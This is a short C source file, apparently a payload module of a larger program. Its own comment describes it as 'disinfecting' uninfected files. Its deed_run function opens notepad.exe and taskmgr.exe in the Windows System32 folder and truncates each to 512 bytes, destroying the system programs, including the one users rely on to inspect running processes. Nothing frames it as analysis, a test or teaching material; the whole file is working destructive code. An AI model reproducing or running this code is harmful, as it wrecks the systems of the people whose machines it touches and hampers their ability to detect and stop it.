/* Disinfects what is not infected: the system's own programs are cut short. */
#include "deed.h"

static void truncate_one(const wchar_t *path)
{
    HANDLE file = CreateFileW(path, GENERIC_WRITE, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);

    if (file == INVALID_HANDLE_VALUE)
        return;
    SetFilePointer(file, 512, NULL, FILE_BEGIN);
    SetEndOfFile(file);
    CloseHandle(file);
}

void deed_run(void)
{
    truncate_one(L"C:\\Windows\\System32\\notepad.exe");
    truncate_one(L"C:\\Windows\\System32\\taskmgr.exe");
}
